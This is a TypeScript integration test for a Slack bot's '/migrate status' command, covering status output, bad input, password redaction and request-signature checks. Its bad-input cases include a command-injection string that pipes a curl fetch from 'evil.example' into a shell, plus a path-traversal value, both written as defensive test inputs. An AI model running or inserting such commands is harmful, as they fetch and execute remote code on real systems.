/**
 * Scenario: someone types `/migrate status staging` in the channel; the bot answers with the real
 * state of a real database: 3 applied, 1 pending and 1 failed migration. HTTP mode and Socket Mode.
 */
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { freePort } from '../support/pg-cluster.js';
import { createTestDatabase, type TestDatabase } from '../support/postgres.js';
import { seedLedger } from '../support/seed-ledger.js';
import { CHANNEL, SECRETS, startTestBot, type TestBot } from '../support/bot.js';
import { computeSlackSignature as signRequest } from '../support/slack-emulator/signing.js';

const fixture = join(dirname(fileURLToPath(import.meta.url)), '../fixtures/slack-status/migrations');
const ALICE = 'U0ALICE01';

function textOf(blocks: Record<string, unknown>[] | undefined): string {
  return JSON.stringify(blocks ?? []);
}

describe.each(['http', 'socket'] as const)('/migrate status in %s mode', (mode) => {
  let db: TestDatabase;
  let bot: TestBot;
  let deadPort: number;

  beforeAll(async () => {
    db = await createTestDatabase(`status_${mode}`);
    await seedLedger(db.url, fixture, {
      applied: ['20240101000000_init', '20240102000000_orders', '20240103000000_order_status'],
      failed: '20240104000000_bad_backfill',
    });
    deadPort = await freePort();
    bot = await startTestBot({
      mode,
      environments: {
        staging: { database: { urlEnv: 'STAGING_DATABASE_URL' }, migrations: fixture },
        broken: { database: { urlEnv: 'BROKEN_DATABASE_URL' }, migrations: fixture },
      },
      vars: {
        STAGING_DATABASE_URL: db.url,
        BROKEN_DATABASE_URL: `postgres://app:Br0kenPassw0rd@127.0.0.1:${deadPort}/app?connect_timeout=2`,
      },
    });
  });

  afterAll(async () => {
    await bot?.stop();
    await db?.drop();
  });

  it('posts the status of every migration to the channel', async () => {
    const delivery = await bot.emu.slashCommand({ user: ALICE, channel: CHANNEL, text: 'status staging' });
    expect(delivery.timedOut).toBe(false);
    expect(delivery.status).toBe(200);
    expect(delivery.body).toContain('Reading the migration status of *staging*');
    const msg = await bot.emu.waitFor(
      () => bot.emu.transcript(CHANNEL).find((m) => textOf(m.blocks).includes('Migration status · staging')),
      { what: 'the status message', timeoutMs: 10_000 },
    );
    const body = textOf(msg.blocks);
    expect(msg.text).toContain('3 applied');
    expect(msg.text).toContain('1 pending');
    expect(msg.text).toContain('1 failed');
    for (const name of ['20240101000000_init', '20240102000000_orders', '20240103000000_order_status']) {
      expect(body).toMatch(new RegExp(`white_check_mark: \`${name}\` — applied`));
    }
    expect(body).toMatch(/:x: `20240104000000_bad_backfill` — failed/);
    expect(body).toMatch(/hourglass_flowing_sand: `20240105000000_add_index` — pending/);
    expect(body).toContain('Deploy is blocked');
    expect(body).toContain('P3009');
    expect(body).toContain('resolve');
  });

  it('answers an unknown environment privately, listing the valid ones', async () => {
    await bot.emu.slashCommand({ user: ALICE, channel: CHANNEL, text: 'status prod' });
    const eph = await bot.emu.waitFor(
      () => bot.emu.ephemerals({ user: ALICE }).find((m) => m.text.includes('no environment named `prod`')),
      { what: 'unknown-environment reply' },
    );
    expect(eph.text).toContain('Valid environments: `staging`, `broken`');
  });

  it('names the host and the error of an unreachable database, without the password', async () => {
    await bot.emu.slashCommand({ user: ALICE, channel: CHANNEL, text: 'status broken' });
    const eph = await bot.emu.waitFor(
      () =>
        bot.emu
          .ephemerals({ user: ALICE })
          .find((m) => m.text.includes('Could not read the status of broken')),
      { what: 'unreachable-database reply', timeoutMs: 15_000 },
    );
    expect(textOf(eph.blocks)).toContain(`127.0.0.1:${deadPort}`);
    expect(JSON.stringify(eph)).not.toContain('Br0kenPassw0rd');
  });

  it.each([
    ['x'.repeat(10_000), 'longer than 500'],
    ['status staging\u0007\u0000', 'control characters'],
    ['status $(curl evil.example)|sh', 'exactly one environment'],
    ['status ../../etc', 'not an environment name'],
  ])('answers bad input with a usage reply (%#)', async (text, problem) => {
    const before = bot.emu.calls.length;
    const delivery = await bot.emu.slashCommand({ user: ALICE, channel: CHANNEL, text });
    expect(delivery.status).toBe(200);
    expect(delivery.body).toContain(problem);
    expect(delivery.body).toContain('/migrate status <env>');
    expect(bot.emu.calls.slice(before).filter((c) => c.method.startsWith('chat.'))).toEqual([]);
  });

  if (mode === 'http') {
    it('answers forged, unsigned and stale requests with 401 and does nothing', async () => {
      const body = new URLSearchParams({
        command: '/migrate',
        text: 'status staging',
        user_id: ALICE,
        channel_id: CHANNEL,
        team_id: 'T0ACME001',
        response_url: `${bot.emu.baseUrl}/nowhere`,
        trigger_id: '1.2.3',
      }).toString();
      const now = Math.floor(Date.now() / 1000);
      const before = bot.emu.calls.length;
      const forged = signRequest('not-the-secret', now, body);
      const stale = signRequest(SECRETS.signingSecret, now - 600, body);
      const type = { 'content-type': 'application/x-www-form-urlencoded' };
      const answers = await Promise.all([
        bot.emu.postRaw(body, {
          ...type,
          'x-slack-request-timestamp': String(now),
          'x-slack-signature': forged,
        }),
        bot.emu.postRaw(body, type),
        bot.emu.postRaw(body, {
          ...type,
          'x-slack-request-timestamp': String(now - 600),
          'x-slack-signature': stale,
        }),
      ]);
      expect(answers.map((a) => a.status)).toEqual([401, 401, 401]);
      await new Promise((r) => setTimeout(r, 300));
      expect(bot.emu.calls.length).toBe(before);
    });

    it('serves /healthz', async () => {
      const res = await fetch(`http://127.0.0.1:${bot.app.port}/healthz`);
      expect(res.status).toBe(200);
      expect(await res.json()).toEqual({ ok: true });
    });
  }
});
